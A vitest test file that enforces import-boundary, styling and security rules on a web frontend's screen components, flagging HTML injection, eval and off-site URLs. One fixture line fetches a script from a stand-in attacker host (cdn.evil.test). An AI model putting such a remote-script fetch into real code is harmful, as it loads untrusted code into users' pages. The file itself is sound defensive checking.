import { readdir, readFile } from 'node:fs/promises';
import { join, posix } from 'node:path';
import { expect, test } from 'vitest';

const ROOT = join(import.meta.dirname, '../../../web/src');
const IMPORT = /(?:^|\n)\s*(?:import|export)\s+(type\s+)?([^;'"]*?)\s*from\s*'([^']+)'/g;

type Found = { readonly path: string; readonly text: string };

/** What a file of the screens must not do, in words. */
function broken({ path, text }: Found): string[] {
  const out: string[] = [];
  const [top, screen] = path.split('/');
  for (const [, type, , from = ''] of text.matchAll(IMPORT)) {
    const target = from.startsWith('.') ? posix.normalize(posix.join(posix.dirname(path), from)) : from;
    const product = /^\.\.\/\.\.\/src\/(\w+)\//.exec(target)?.[1];
    const plain = target === '../../src/contract/actions.ts';
    if (product !== undefined && type === undefined && !plain)
      out.push(`${path} imports ${from}: of the product the screens take types only (import type)`);
    if (product !== undefined && product !== 'contract' && product !== 'kernel')
      out.push(`${path} imports ${from}: the screens see src/contract and words of src/kernel, nothing else`);
    if (top === 'kit' && (target.startsWith('pages/') || target.startsWith('app/')))
      out.push(`${path} imports ${from}: the kit knows no screen`);
    if (top === 'pages' && target.startsWith('pages/') && target.split('/')[1] !== screen)
      out.push(`${path} imports ${from}: screens share by the kit, not by each other's files`);
  }
  if (/dangerouslySetInnerHTML|\.innerHTML|insertAdjacentHTML|document\.write/.test(text))
    out.push(`${path} writes HTML: text from outside is text`);
  if (/\beval\(|new Function\(/.test(text)) out.push(`${path} evaluates text`);
  if (top === 'pages' && /#[0-9a-f]{6}\b/i.test(text)) out.push(`${path} names a colour: use the tokens of theme.css`);
  if (/https?:\/\/(?!127\.0\.0\.1|localhost|www\.w3\.org\/|[\w.-]*example\.(?:org|com))/.test(text))
    out.push(`${path} names an address elsewhere`);
  if (top === 'pages' && text.split('\n').length > 300) out.push(`${path} is longer than 300 lines`);
  return out;
}

test('the screens keep to their rules', async () => {
  const names = (await readdir(ROOT, { recursive: true })).filter((name) => /\.tsx?$/.test(name));
  expect(names.length).toBeGreaterThan(30);
  const files = await Promise.all(
    names.map(async (path) => ({ path: path.replaceAll('\\', '/'), text: await readFile(join(ROOT, path), 'utf8') })),
  );
  expect(files.flatMap(broken)).toEqual([]);
});

test.each([
  ['pages/a/page.tsx', "import { oneRelease } from '../../../../src/contract/releases.ts';", /types only/],
  ['pages/a/page.tsx', "import type { X } from '../../../../src/releases/may-ship.ts';", /nothing else/],
  ['pages/a/page.tsx', "import { B } from '../b/part.tsx';", /not by each other/],
  ['kit/a.tsx', "import { B } from '../pages/b/part.tsx';", /knows no screen/],
  ['pages/a/page.tsx', 'return <b dangerouslySetInnerHTML={x} />;', /writes HTML/],
  ['pages/a/page.tsx', "const red = '#ff0000';", /tokens/],
  ['pages/a/page.tsx', "fetch('https://cdn.evil.test/x.js')", /elsewhere/],
])('%s with %j is refused', (path, text, words) => {
  expect(broken({ path, text }).join('\n')).toMatch(words);
});
